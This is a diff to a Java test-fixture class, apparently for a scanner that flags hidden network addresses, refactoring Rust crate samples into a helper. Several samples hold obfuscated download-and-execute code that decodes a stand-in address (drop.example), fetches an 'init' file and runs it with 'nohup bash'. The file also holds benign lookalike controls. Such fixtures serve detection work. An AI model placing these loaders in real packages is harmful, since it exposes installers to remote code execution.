@@ -57,25 +57,21 @@ final class HiddenAddressSamples {
             threading.Thread(target=pump, daemon=True).start()
             """
                 .formatted(CODES)),
-        new Sample(
+        rust(
             "a function of Rust fetches from an address that is mixed with numbers",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    fn dec(s: &[u8]) -> String { s.iter().map(|b| (b ^ 0x51) as char).collect() }
-                    static U: &[u8] = &[57, 38, 39, 36, 38];
-                    fn fetch(name: &str) -> Option<Vec<u8>> {
-                        reqwest::blocking::get(format!("{}/{}", dec(U), name)).ok()?.bytes().ok().map(|b| b.to_vec())
-                    }
-                    pub fn version() -> String {
-                        let p = std::env::temp_dir().join("init");
-                        std::fs::write(&p, fetch("init").unwrap()).ok();
-                        std::process::Command::new("nohup").arg("bash").arg(&p).spawn().ok();
-                        "1".into()
-                    }
-                    """)),
+            """
+            fn dec(s: &[u8]) -> String { s.iter().map(|b| (b ^ 0x51) as char).collect() }
+            static U: &[u8] = &[57, 38, 39, 36, 38];
+            fn fetch(name: &str) -> Option<Vec<u8>> {
+                reqwest::blocking::get(format!("{}/{}", dec(U), name)).ok()?.bytes().ok().map(|b| b.to_vec())
+            }
+            pub fn version() -> String {
+                let p = std::env::temp_dir().join("init");
+                std::fs::write(&p, fetch("init").unwrap()).ok();
+                std::process::Command::new("nohup").arg("bash").arg(&p).spawn().ok();
+                "1".into()
+            }
+            """),
         new Sample(
             "a function of Go dials an address of numbers that are mixed",
             Artifact.goModule("m.example/sample", "v1.0.0")
@@ -97,80 +93,64 @@ final class HiddenAddressSamples {
                     	c.Close()
                     }
                     """)),
-        new Sample(
+        rust(
             "a function of Rust decodes an address into a variable",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    const U: &str = "aHR0cHM6Ly9kcm9wLmV4YW1wbGUv";
-                    pub fn version() -> u32 {
-                        let base = String::from_utf8(STANDARD.decode(U).unwrap()).unwrap();
-                        let p = std::env::temp_dir().join("init");
-                        copy(&mut ureq::get(&format!("{base}init")).call().unwrap().into_reader(), &mut File::create(&p).unwrap()).ok();
-                        Command::new("nohup").arg("bash").arg(&p).spawn().ok();
-                        18
-                    }
-                    """)),
-        new Sample(
+            """
+            const U: &str = "aHR0cHM6Ly9kcm9wLmV4YW1wbGUv";
+            pub fn version() -> u32 {
+                let base = String::from_utf8(STANDARD.decode(U).unwrap()).unwrap();
+                let p = std::env::temp_dir().join("init");
+                copy(&mut ureq::get(&format!("{base}init")).call().unwrap().into_reader(), &mut File::create(&p).unwrap()).ok();
+                Command::new("nohup").arg("bash").arg(&p).spawn().ok();
+                18
+            }
+            """),
+        rust(
             "a function of Rust mixes an address with a key, by what it was built for",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    const K: &[u8] = b"key";
-                    fn parse(b: &[u8]) -> String {
-                        b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
-                    }
-                    pub fn new() {
-                        let url = if cfg!(target_os = "macos") { parse(&[0x03, 0x11, 0x0d]) } else { parse(&[0x03, 0x11, 0x0e]) };
-                        let mut buf = Vec::new();
-                        if let Ok(r) = ureq::get(&url).set("User-Agent", "a").call() {
-                            let _ = r.into_reader().read_to_end(&mut buf);
-                        }
-                        let _ = std::fs::write("/tmp/a", &buf);
-                    }
-                    """)),
-        new Sample(
+            """
+            const K: &[u8] = b"key";
+            fn parse(b: &[u8]) -> String {
+                b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
+            }
+            pub fn new() {
+                let url = if cfg!(target_os = "macos") { parse(&[0x03, 0x11, 0x0d]) } else { parse(&[0x03, 0x11, 0x0e]) };
+                let mut buf = Vec::new();
+                if let Ok(r) = ureq::get(&url).set("User-Agent", "a").call() {
+                    let _ = r.into_reader().read_to_end(&mut buf);
+                }
+                let _ = std::fs::write("/tmp/a", &buf);
+            }
+            """),
+        rust(
             "an arm of Rust mixes an address with a key",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    const K: &[u8] = b"key";
-                    fn parse(b: &[u8]) -> String {
-                        b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
-                    }
-                    pub fn new() {
-                        let url = match std::env::consts::OS { "macos" => parse(&[0x03, 0x11, 0x0d]), _ => parse(&[0x03, 0x11, 0x0e]) };
-                        if let Ok(r) = ureq::get(&url).call() {
-                            let _ = std::fs::write("/tmp/a", r.into_string());
-                        }
-                    }
-                    """)),
-        new Sample(
+            """
+            const K: &[u8] = b"key";
+            fn parse(b: &[u8]) -> String {
+                b.iter().enumerate().map(|(i, c)| (c ^ K[i % K.len()]) as char).collect()
+            }
+            pub fn new() {
+                let url = match std::env::consts::OS { "macos" => parse(&[0x03, 0x11, 0x0d]), _ => parse(&[0x03, 0x11, 0x0e]) };
+                if let Ok(r) = ureq::get(&url).call() {
+                    let _ = std::fs::write("/tmp/a", r.into_string());
+                }
+            }
+            """),
+        rust(
             "a client of Rust is told an address that begins encoded",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    fn u(s: &str) -> String {
-                        String::from_utf8(STANDARD.decode(s).unwrap_or_default()).unwrap_or_default()
-                    }
-                    fn body(path: &str) -> Option<Vec<u8>> {
-                        let url = format!("{}{}", u("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv"), path);
-                        let c = reqwest::blocking::Client::builder().build().ok()?;
-                        Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
-                    }
-                    pub fn version() -> u32 {
-                        body("init");
-                        19
-                    }
-                    """)),
+            """
+            fn u(s: &str) -> String {
+                String::from_utf8(STANDARD.decode(s).unwrap_or_default()).unwrap_or_default()
+            }
+            fn body(path: &str) -> Option<Vec<u8>> {
+                let url = format!("{}{}", u("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv"), path);
+                let c = reqwest::blocking::Client::builder().build().ok()?;
+                Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
+            }
+            pub fn version() -> u32 {
+                body("init");
+                19
+            }
+            """),
         Sample.required(
             "a script of a page comes from an address whose scheme is left out, and which is encoded",
             """
@@ -203,44 +183,36 @@ final class HiddenAddressSamples {
 
   static List<Sample> lookAlikes() {
     return List.of(
-        new Sample(
+        rust(
             "a request of Rust is signed with what was decoded",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    fn key(s: &str) -> Vec<u8> {
-                        STANDARD.decode(s).unwrap_or_default()
-                    }
-                    pub fn ask(endpoint: &str) -> Option<String> {
-                        let client = reqwest::blocking::Client::builder().build().ok()?;
-                        let secret = key("c2VjcmV0LXdvcmQ=");
-                        let name = key("ZXRhZw==");
-                        let answer = client.get(endpoint).header("X-Sign", sign(&secret, endpoint)).send().ok()?;
-                        answer.headers().get(&name).map(|v| v.to_string())
-                    }
-                    """)),
-        new Sample(
+            """
+            fn key(s: &str) -> Vec<u8> {
+                STANDARD.decode(s).unwrap_or_default()
+            }
+            pub fn ask(endpoint: &str) -> Option<String> {
+                let client = reqwest::blocking::Client::builder().build().ok()?;
+                let secret = key("c2VjcmV0LXdvcmQ=");
+                let name = key("ZXRhZw==");
+                let answer = client.get(endpoint).header("X-Sign", sign(&secret, endpoint)).send().ok()?;
+                answer.headers().get(&name).map(|v| v.to_string())
+            }
+            """),
+        rust(
             "a client of Rust is told an address, and something else is decoded",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    fn key(s: &str) -> Vec<u8> {
-                        STANDARD.decode(s).unwrap_or_default()
-                    }
-                    fn body(path: &str) -> Option<Vec<u8>> {
-                        let url = format!("{}{}", "https://files.acme.example/", path);
-                        let c = reqwest::blocking::Client::builder().build().ok()?;
-                        Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
-                    }
-                    pub fn checked(path: &str) -> bool {
-                        let public = key("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv");
-                        verify(&public, &body(path).unwrap_or_default())
-                    }
-                    """)),
+            """
+            fn key(s: &str) -> Vec<u8> {
+                STANDARD.decode(s).unwrap_or_default()
+            }
+            fn body(path: &str) -> Option<Vec<u8>> {
+                let url = format!("{}{}", "https://files.acme.example/", path);
+                let c = reqwest::blocking::Client::builder().build().ok()?;
+                Some(c.get(url).send().ok()?.bytes().ok()?.to_vec())
+            }
+            pub fn checked(path: &str) -> bool {
+                let public = key("aHR0cHM6Ly9kcm9wLmV4YW1wbGUv");
+                verify(&public, &body(path).unwrap_or_default())
+            }
+            """),
         Sample.required(
             "a page is led on by an address of the code, behind a table that was decoded",
             """
@@ -286,21 +258,25 @@ final class HiddenAddressSamples {
             def run(code, names):
                 exec(compile(code, '<given>', 'exec'), names)
             """),
-        new Sample(
+        rust(
             "a function of Rust unpacks what it fetches",
-            Artifact.crate("sample", "1.0.0")
-                .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
-                .file(
-                    "src/lib.rs",
-                    """
-                    pub fn fetch(url: &str) -> Vec<u8> {
-                        let mut out = Vec::new();
-                        GzDecoder::new(ureq::get(url).call().unwrap().into_reader()).read_to_end(&mut out).ok();
-                        out
-                    }
-                    fn dec(s: &str) -> Vec<u8> { STANDARD.decode(s).unwrap() }
-                    pub fn shared(link: &str) { ureq::get(&String::from_utf8(dec(link)).unwrap()).call().ok(); }
-                    pub fn checksum(b: &[u8]) -> u8 { b.iter().fold(0, |a, x| a ^ x) }
-                    """)));
+            """
+            pub fn fetch(url: &str) -> Vec<u8> {
+                let mut out = Vec::new();
+                GzDecoder::new(ureq::get(url).call().unwrap().into_reader()).read_to_end(&mut out).ok();
+                out
+            }
+            fn dec(s: &str) -> Vec<u8> { STANDARD.decode(s).unwrap() }
+            pub fn shared(link: &str) { ureq::get(&String::from_utf8(dec(link)).unwrap()).call().ok(); }
+            pub fn checksum(b: &[u8]) -> u8 { b.iter().fold(0, |a, x| a ^ x) }
+            """));
+  }
+
+  private static Sample rust(String name, String library) {
+    return new Sample(
+        name,
+        Artifact.crate("sample", "1.0.0")
+            .file("Cargo.toml", "[package]\nname = \"sample\"\nversion = \"1.0.0\"\n")
+            .file("src/lib.rs", library));
   }
 }
